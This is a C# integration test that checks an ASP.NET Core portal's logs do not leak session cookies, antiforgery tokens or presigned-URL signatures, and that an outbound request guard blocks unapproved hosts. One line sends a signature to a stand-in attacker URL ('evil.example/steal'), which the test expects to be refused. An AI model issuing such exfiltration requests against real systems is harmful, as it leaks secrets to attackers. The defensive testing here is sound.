using System.Net;
using Microsoft.AspNetCore.Hosting;
using Microsoft.AspNetCore.Mvc.Testing;
using Microsoft.AspNetCore.TestHost;
using Microsoft.Extensions.DependencyInjection;
using Portal.Security;

namespace Portal.IntegrationTests.Security;

/// <summary>The portal with a guarded download client whose upstream answers from memory.</summary>
public sealed class DownloadClientFactory : LoggedPortalFactory
{
    protected override void ConfigureWebHost(IWebHostBuilder builder)
    {
        base.ConfigureWebHost(builder);
        builder.ConfigureTestServices(services => services
            .AddHttpClient("test-download")
            .AddOutboundGuard((options, _) => options.AllowedHosts.Add("files.example.test"))
            .ConfigurePrimaryHttpMessageHandler(() => new FileHost()));
    }

    private sealed class FileHost : HttpMessageHandler
    {
        protected override Task<HttpResponseMessage> SendAsync(HttpRequestMessage request, CancellationToken cancellationToken) =>
            Task.FromResult(new HttpResponseMessage(HttpStatusCode.OK) { Content = new StringContent("device,status\n1,online\n") });
    }
}

public class LogRedactionTests(DownloadClientFactory factory) : IClassFixture<DownloadClientFactory>
{
    private const string Signature = "sig-7f3a9c0d1e2b";
    private const string PresignedUrl = $"https://files.example.test/exports/42/part-1.csv?X-Expires=3600&signature={Signature}";

    private static CancellationToken Token => TestContext.Current.CancellationToken;

    [Fact]
    public async Task AFullFlowLogsNoTokensSecretsOrSignedUrls()
    {
        using var client = factory.CreateClient(new WebApplicationFactoryClientOptions { AllowAutoRedirect = false });
        await client.GetStringAsync("/", Token);
        var signInPage = await client.GetStringAsync("/account/dev-signin?returnUrl=%2F", Token);
        var antiforgeryToken = DevSignIn.AntiforgeryToken(signInPage);
        using var signIn = await client.PostAsync("/account/dev-signin", new FormUrlEncodedContent(new Dictionary<string, string>
        {
            ["name"] = "Lena Logs",
            ["__RequestVerificationToken"] = antiforgeryToken,
        }), Token);
        var sessionCookie = signIn.Headers.GetValues("Set-Cookie").Single(c => c.StartsWith("Portal.Session=", StringComparison.Ordinal));
        var sessionValue = sessionCookie.Split(';')[0]["Portal.Session=".Length..];
        var home = await client.GetStringAsync("/", Token);
        using var denied = await client.GetAsync("/account/access-denied", Token);
        var downloads = factory.Services.GetRequiredService<IHttpClientFactory>().CreateClient("test-download");
        var file = await downloads.GetStringAsync(PresignedUrl, Token);
        await Assert.ThrowsAsync<OutboundRequestRefusedException>(() => downloads.GetAsync($"https://evil.example/steal?signature={Signature}", Token));
        using var signOut = await client.PostAsync("/account/logout", new FormUrlEncodedContent(new Dictionary<string, string>
        {
            ["__RequestVerificationToken"] = DevSignIn.AntiforgeryToken(home),
        }), Token);

        Assert.StartsWith("device,status", file, StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.Redirect, signOut.StatusCode);
        var logs = factory.Logs.Entries.ToList();
        Assert.Contains(logs, e => e.Contains("Audit: dev-lena-logs (Lena Logs) signed in with DevelopmentSignIn", StringComparison.Ordinal));
        Assert.Contains(logs, e => e.Contains("Audit: dev-lena-logs signed out", StringComparison.Ordinal));
        Assert.Contains(logs, e => e.Contains("https://files.example.test/exports/42/part-1.csv answered 200", StringComparison.Ordinal));
        Assert.Contains(logs, e => e.Contains("refused a request to https://evil.example", StringComparison.Ordinal));
        Assert.True(logs.Count > 50, "the host logged at every level");
        foreach (var secret in new[] { "signature=", Signature, antiforgeryToken, sessionValue, "X-Expires" })
        {
            Assert.DoesNotContain(logs, e => e.Contains(secret, StringComparison.OrdinalIgnoreCase));
        }
    }
}
